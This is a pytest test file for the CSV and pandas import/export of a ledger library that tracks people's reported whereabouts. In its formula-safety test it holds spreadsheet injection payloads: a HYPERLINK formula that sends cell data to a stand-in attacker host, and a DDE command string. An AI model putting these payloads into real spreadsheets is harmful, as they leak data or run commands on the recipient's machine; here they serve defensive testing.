"""Issue 11, parts 3, 6 and 7: CSV exports that are safe and lossless, pandas both ways,
and sheets as spreadsheets save them. Each reproducer of the issue is a test here."""

from __future__ import annotations

import csv
import io
import logging
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from whereabouts import Kind, Ledger, Place, Source, SourceKind
from whereabouts.io import (
    COLUMNS,
    LedgerFileError,
    read_csv,
    read_frame,
    template_text,
    to_csv,
    to_dataframe,
    write_csv,
)

HEADER = ",".join(COLUMNS)
ROOT = Path(__file__).parent.parent


def write(tmp_path: Path, text: str, name: str = "case.csv") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8", newline="")
    return path


def problems(path: Path, ledger: Ledger | None = None) -> list[str]:
    with pytest.raises(LedgerFileError) as info:
        read_csv(path, ledger)
    return [str(p) for p in info.value.problems]


def round_trip(ledger: Ledger, tmp_path: Path, into: Ledger | None = None) -> Ledger:
    path = tmp_path / "export.csv"
    write_csv(ledger, path)
    return read_csv(path, into).ledger


def amal() -> Ledger:
    ledger = Ledger()
    ledger.add_person("Amal Haddad", id="amal-haddad")
    return ledger


# -- 3. safe: formulas ------------------------------------------------------------------

RISKY = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+2", "-2+3", "@SUM(A1:A2)", "\tx",
         "\rx", "=1", "'=1", "''=1", "'tis", "'", "'+", "", "plain", "-"]


def test_cells_a_spreadsheet_would_run_are_neutralised_and_come_back(tmp_path: Path) -> None:
    ledger = amal()
    for n, note in enumerate(RISKY):
        ledger.observe("amal-haddad", Kind.SEEN_AT, place=Place.from_country("LB"),
                       source="=cmd|' /C calc'!A0" if n == 0 else "a wire",
                       reported="2024-12-10", note=note)
    text = to_csv(ledger)
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK(" in text
    assert "'=cmd|" in text
    assert round_trip(ledger, tmp_path) == ledger


def test_a_neutralised_cell_typed_by_hand_reads_as_meant(tmp_path: Path) -> None:
    path = write(tmp_path, HEADER + "\n,'=Nour Khalil,seen at,Beirut,2024-12-07,'-a wire,"
                                    "2024-12-08,,,'tis said,\n")
    (obs,) = read_csv(path).ledger.observations
    assert (obs.note, str(obs.source)) == ("'tis said", "-a wire")
    assert read_csv(path).created[0].name == "=Nour Khalil"


# -- 3. lossless: places, sources, notes -------------------------------------------------


def test_places_built_by_hand_come_back_as_themselves(tmp_path: Path) -> None:
    ledger = amal()
    tehran = Place.city("Tehran", country="IR", point=(35.7, 51.4))
    places = [
        Place.region("Levant", ["JO", "LB", "SY"]),  # the gazetteer's "the Levant" has 5
        tehran,
        Place.facility("Evin prison", parent=tehran, point=(35.79, 51.39), key="site:evin"),
        Place.city("Tripoli", country="LB"),  # ambiguous by name
        Place.craft("Admiral Kuznetsov", point=(69.1, 33.4)),
        Place.waters("the Black Sea, off Crimea"),
        Place.from_subdivision("SY-LA", name="Latakia governorate"),
        Place.city("Beirut | Port", country="LB"),  # a '|' in a name
        Place.city("\x00odd", country="LB"),
    ]
    for n, place in enumerate(places):
        ledger.observe("amal-haddad", Kind.SEEN_AT, place=place, when=f"2024-12-0{n + 1}",
                       source="a wire", reported="2024-12-10")
    ledger.observe("amal-haddad", Kind.ARRIVED, place=[places[0], places[2]],
                   source="a wire", reported="2024-12-10")
    again = round_trip(ledger, tmp_path)
    assert again == ledger
    levant = again.observations[0].place
    assert levant is not None
    assert sorted(levant.countries) == ["JO", "LB", "SY"]
    assert str(again.everyone()) == str(ledger.everyone())


def test_sources_with_arrows_in_their_names_stay_one_source(tmp_path: Path) -> None:
    ledger = amal()
    for name in ("Reuters -> AFP", "A → B", " padded ", "x\ny"):
        ledger.observe("amal-haddad", Kind.SEEN_AT, place=Place.from_country("LB"),
                       source=Source(name), reported="2024-12-10")
    relayed = Source("AFP", via=Source("witnesses -> a radio", kind=SourceKind.WITNESS),
                     published="2024-12-09", url="https://example.org/a?b=1")
    ledger.observe("amal-haddad", Kind.SEEN_AT, place=Place.from_country("LB"), source=relayed,
                   reported="2024-12-10")
    again = round_trip(ledger, tmp_path)
    assert [o.source for o in again.observations] == [o.source for o in ledger.observations]
    assert [len(o.source.chain) for o in again.observations] == [1, 1, 1, 1, 2]


def test_any_note_comes_back_nul_line_breaks_and_very_long(tmp_path: Path) -> None:
    ledger = amal()
    notes = ["a\x00b", "line\r\nbreak\rand\nmore", "x" * 200_000, '"quoted", ; | →']
    # (a lone surrogate never gets this far: the ledger refuses it at the door)
    for note in notes:
        ledger.observe("amal-haddad", Kind.SEEN_AT, place=Place.from_country("LB"),
                       source="a wire", reported="2024-12-10", note=note)
    path = tmp_path / "notes.csv"
    write_csv(ledger, path)
    assert b"\x00" not in path.read_bytes()
    again = read_csv(path).ledger
    assert [o.note for o in again.observations] == notes
    assert csv.field_size_limit() == 131_072  # left as it was


def test_a_cell_longer_than_the_csv_module_reads_by_default(tmp_path: Path) -> None:
    note = "n" * 140_000
    path = write(tmp_path, HEADER + f"\n,Nour,seen at,Beirut,,a wire,2024-12-08,,,{note},\n")
    (obs,) = read_csv(path).ledger.observations
    assert len(obs.note) == 140_000


# -- 3. lossless: corrections, retractions, denials -----------------------------------------


def corrected() -> Ledger:
    ledger = amal()
    ledger.add_person("Sami Nasser", id="sami-nasser")
    seen = ledger.observe("amal-haddad", Kind.SEEN_AT, place=Place.from_country("LB"),
                          when="2024-12-01", source="a wire", reported="2024-12-02", id="beirut")
    ledger.correct(seen, source="a wire", reported="2024-12-05", place=Place.from_country("SY"),
                   note="it was Damascus")
    held = ledger.observe("sami-nasser", Kind.DETAINED, place=Place.from_country("SY"),
                          when="2024-11-01/2024-12-01", throughout=True, source="a lawyer",
                          reported="2024-12-03")
    ledger.retract(held, source="a lawyer", reported="2024-12-06", reason="another Sami")
    dead = ledger.observe("sami-nasser", Kind.DIED, when="2024-12-04", source="a rumour",
                          reported="2024-12-05")
    ledger.deny(dead, source="his family", reported="2024-12-07", reason="he called them")
    return ledger


def test_corrections_retractions_and_denials_are_rows_and_answers_are_the_same(
        tmp_path: Path) -> None:
    ledger = corrected()
    text = to_csv(ledger)
    assert text.splitlines()[0] == HEADER + ",throughout,entry,target"
    assert [row[-2:] for row in csv.reader(io.StringIO(text))][1:] == [
        ["", ""], ["correction", "beirut"], ["", ""], ["retraction", "o3"], ["", ""],
        ["denial", "o5"]]
    again = round_trip(ledger, tmp_path)  # into a new ledger: people made from their names
    assert again == ledger
    for known_at in (None, "2024-12-03", "2024-12-06"):
        assert str(again.everyone(known_at=known_at)) == str(ledger.everyone(known_at=known_at))
        assert again.conflicts(known_at=known_at) == ledger.conflicts(known_at=known_at)
        for who in ("Amal Haddad", "Sami Nasser"):
            assert str(again.last_known(who, known_at=known_at)) == str(
                ledger.last_known(who, known_at=known_at))


def test_entries_written_by_hand(tmp_path: Path) -> None:
    head = HEADER + ",entry,target\n"
    path = write(tmp_path, head
                 + "b,Nour Khalil,seen at,Beirut,2024-12-07,a wire,2024-12-08,,,,,,\n"
                 + ",,,,,a wire,2024-12-09,,,wrong,,Retraction,b\n"
                 + ",Nour Khalil,seen at,Dubai,2024-12-07,a wire,2024-12-10,,,,,correction,b\n"
                 + ",Nour Khalil,seen at,Doha,,a wire,2024-12-10,,,,,,\n")
    ledger = read_csv(path).ledger
    assert [type(e).__name__ for e in ledger.entries] == [
        "Observation", "Retraction", "Observation", "Observation"]
    assert [e.id for e in ledger.entries] == ["b", "o2", "o3", "o4"]
    assert ledger.observation("o3").corrects == "b"
    bad = write(tmp_path, head
                + "b,Nour Khalil,seen at,Beirut,2024-12-07,a wire,2024-12-08,,,,,,\n"
                + ",,seen at,,,a wire,,,,,,retraction,nowhere\n"
                + ",Nour Khalil,seen at,Dubai,2024-12-07,a wire,2024-12-10,,,,,correction,\n"
                + ",Nour Khalil,seen at,Dubai,2024-12-07,a wire,2024-12-10,,,,,undo,b\n"
                + ",Nour Khalil,seen at,Dubai,2024-12-07,a wire,2024-12-10,,,,,,b\n", "bad.csv")
    assert problems(bad) == [
        "3:3: kind: 'seen at': a retraction row leaves this cell empty",
        "3:7: reported: a retraction needs the date it was reported",
        "3:13: target: 'nowhere': no such observation on an earlier row or in the ledger",
        "4:13: target: a correction names the observation it is about",
        "5:12: entry: 'undo': expected observation, correction, retraction or denial (empty: "
        "an observation)",
        "6:13: target: 'b': only a correction, retraction or denial has a target",
    ]


def test_what_a_csv_cannot_carry_is_said(tmp_path: Path,
                                         caplog: pytest.LogCaptureFixture) -> None:
    ledger = Ledger()
    ledger.add_person("Amal Haddad", id="amal", aliases=["Umm Sami"])
    family = ledger.add_group("the Haddads", id="haddads", members=["amal"])
    ledger.observe(family, Kind.SEEN_AT, place=Place.from_country("LB"), source="a wire",
                   reported="2024-12-10")
    with caplog.at_level(logging.WARNING, logger="whereabouts"):
        report = write_csv(ledger, tmp_path / "x.csv")
    assert not report.complete
    assert report.lost == (
        "1 relation (members of groups, family ties): keep the native file for them",
        "1 group: written by name, read back as people unless the ledger read into has them",
        "the aliases, descriptions or notes of 1 entity",
        "the ids of 1 person (e.g. 'amal'): read back with ids made from their names unless "
        "the ledger read into has them")
    assert "a CSV does not carry 1 relation" in caplog.text
    assert write_csv(corrected(), tmp_path / "y.csv").complete


def test_exact_cells_that_do_not_fit_their_row(tmp_path: Path) -> None:
    head = HEADER + ",exact\n"
    good = '"{""place"": [{""name"": ""Levant"", ""kind"": ""region"", ""countries"": [""JO""]}]}"'
    path = write(tmp_path, head
                 + f",Nour,seen at,Levant,,a wire,2024-12-08,,,,,{good}\n"
                 + f",Nour,seen at,Lebanon,,a wire,2024-12-08,,,,,{good}\n"
                 + ",Nour,seen at,Lebanon,,a wire,2024-12-08,,,,,{not json\n"
                 + ',Nour,seen at,Lebanon,,a wire,2024-12-08,,,,,"{""place"": [{""name"": 1}]}"\n'
                 + ',Nour,seen at,Lebanon,,a wire,2024-12-08,,,,,"' + "[" * 100_000 + '"\n')
    found = problems(path)
    assert found[0] == ("3:4: place: 'Lebanon': the 'exact' cell says 'Levant': edit both, or "
                        "empty the 'exact' cell to read this one")
    assert found[1].startswith("4:12: exact: '{not json': not JSON (")
    assert found[2].startswith("5:12: exact: ")
    assert found[3].startswith("6:12: exact: ")
    assert len(found) == 4


def test_old_sheets_still_import_unchanged(tmp_path: Path) -> None:
    text = (HEADER + "\nbeirut,Nour Khalil,seen at,Beirut,2024-12-07,witnesses → a wire,"
            "2024-12-08,B,2,'tis said,\n")
    ledger = read_csv(write(tmp_path, text)).ledger
    assert ledger.observation("beirut").note == "'tis said"
    assert to_csv(ledger) == text


# -- 7. sheets as spreadsheets save them --------------------------------------------------


def test_a_sheet_saved_by_european_excel(tmp_path: Path) -> None:
    text = (HEADER.replace(",", ";") + ";url\r\n"
            "beirut;Nour Khalil;seen at;Beirut;2024-12-07;a wire;2024-12-08;B;2;"
            '"seen; they say";;https://example.org/a\r\n')
    report = read_csv(write(tmp_path, text))
    assert report.ok
    assert report.ledger.observation("beirut").note == "seen; they say"
    assert report.notices == ("columns separated by ';', not by commas",
                              "column 12 ('url') is not one whereabouts reads: left unread")
    tabbed = write(tmp_path, text.replace(";", "\t").replace('"seen\t they say"', "x"), "t.csv")
    assert read_csv(tabbed).ok


def test_dates_as_people_spell_them_are_refused_with_the_edtf_to_write(tmp_path: Path) -> None:
    rows = [("June 2025", "2025-07-01"), ("14/01/2025", "2025-01-20"),
            ("03/04/2025", "2025-05-01"), ("2025-01-14", '"January 20, 2025"')]
    path = write(tmp_path, HEADER + "\n" + "".join(
        f",Nour,seen at,Beirut,{when},a wire,{reported},,,,\n" for when, reported in rows))
    assert problems(path) == [
        "2:5: when: 'June 2025': not an EDTF date; write 2025-06 (EDTF)",
        "3:5: when: '14/01/2025': not an EDTF date; write 2025-01-14 (EDTF; day/month/year)",
        "4:5: when: '03/04/2025': not an EDTF date; ambiguous: write 2025-04-03 (EDTF) if "
        "day/month/year, 2025-03-04 if month/day/year",
        "5:7: reported: 'January 20, 2025': not an EDTF date; write 2025-01-20 (EDTF)",
    ]


def test_the_template_ships_in_the_package() -> None:
    shipped = (ROOT / "whereabouts" / "io" / "template.csv").read_text(encoding="utf-8")
    assert shipped == (ROOT / "docs" / "template.csv").read_text(encoding="utf-8")
    assert template_text() == shipped


# -- 6. pandas both ways --------------------------------------------------------------------


def test_read_frame_of_to_dataframe_gives_back_an_equal_ledger() -> None:
    pytest.importorskip("pandas")
    from whereabouts.examples import assad_2024

    ledger = corrected()
    ledger.observe("amal-haddad", Kind.ARRIVED, place=["Dubai", "Doha"], source="a wire",
                   reported="2024-12-10", after=["beirut"], id="gulf")
    frame = to_dataframe(ledger)
    assert frame.loc["gulf", "after"] == ["beirut"]
    assert frame.loc["gulf", "place"] == "Dubai | Doha"
    report = read_frame(frame)
    assert report.ok
    assert report.notices == ()
    assert report.ledger == ledger
    seed = assad_2024()
    bare = Ledger(gazetteer=seed.gazetteer)
    for entity in seed.entities:
        bare.add(entity)
    assert [o.place for o in read_frame(to_dataframe(seed), bare).ledger.observations] == [
        o.place for o in seed.observations]


def test_a_frame_with_a_grading_column() -> None:
    pd = pytest.importorskip("pandas")
    frame = pd.DataFrame({
        "id": ["a", "b", "c"], "subjects": ["Nour"] * 3, "kind": ["seen at"] * 3,
        "place": ["Beirut"] * 3, "when": [None] * 3, "source": ["a wire"] * 3,
        "reported": ["2024-12-10"] * 3, "grading": ["B2", "C3", "Z9"], "note": [None] * 3,
        "after": [[], ["a"], []]})
    with pytest.raises(LedgerFileError) as info:
        read_frame(frame)
    assert [str(p) for p in info.value.problems] == [
        "4:8: grading: 'Z9': source reliability must be A-F"]
    frame.loc[2, "grading"] = None
    ledger = read_frame(frame).ledger
    assert [str(o.grading) for o in ledger.observations] == ["B2", "C3", "F6"]
    assert ledger.observation("b").after == ("a",)
    frame["reliability"] = ["B", "D", None]
    frame["credibility"] = [2, 3, None]
    assert [str(p) for p in _problems_of(read_frame, frame)] == [
        "3:8: grading: 'C3': differs from the reliability and credibility cells (D3)"]


def _problems_of(read: object, frame: object) -> list[str]:
    with pytest.raises(LedgerFileError) as info:
        read(frame)  # type: ignore[operator]
    return [str(p) for p in info.value.problems]


# -- 1 (CSV). any content: the library's error, never another ------------------------------

GOOD = (HEADER + ",throughout,entry,target,exact\n"
        "a,Nour,seen at,Beirut,2024-12-07,a → b,2024-12-08,B,2,'=x,,,,,\n"
        'b,Nour,seen at,Lebanon,2024-12,c,2024-12-09,,,"q,""",a,,correction,a,'
        '"{""source"": [{""name"": ""c""}]}"\n'
        ",,,,,c,2024-12-10,,,,,,retraction,b,\n")


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_any_mutation_of_a_sheet_gives_a_report_or_the_librarys_error(
        tmp_path_factory: pytest.TempPathFactory, data: st.DataObject) -> None:
    raw = bytearray(GOOD.encode("utf-8"))
    for _ in range(data.draw(st.integers(1, 6))):
        action = data.draw(st.sampled_from(("flip", "insert", "delete", "cut")))
        at = data.draw(st.integers(0, max(len(raw) - 1, 0)))
        if action == "flip" and raw:
            raw[at] = data.draw(st.sampled_from(b',;\t"\'\n\r\x00{}[]|=-0aZ\xff\xc3'))
        elif action == "insert":
            raw[at:at] = data.draw(st.binary(max_size=8) | st.sampled_from(
                [b'"', b"\r\n", b"[[[[[[[[", b"\xef\xbb\xbf", b"June 2025", b"03/04/2025"]))
        elif action == "delete":
            del raw[at:at + data.draw(st.integers(1, 10))]
        else:
            del raw[at:]
    path = tmp_path_factory.mktemp("fuzz") / "case.csv"
    path.write_bytes(bytes(raw))
    for keep_valid in (False, True):
        try:
            report = read_csv(path, keep_valid=keep_valid)
        except LedgerFileError as err:  # the library's own error, naming the file
            said = str(err)
        else:
            said = str(report)
        assert said.startswith(str(path))
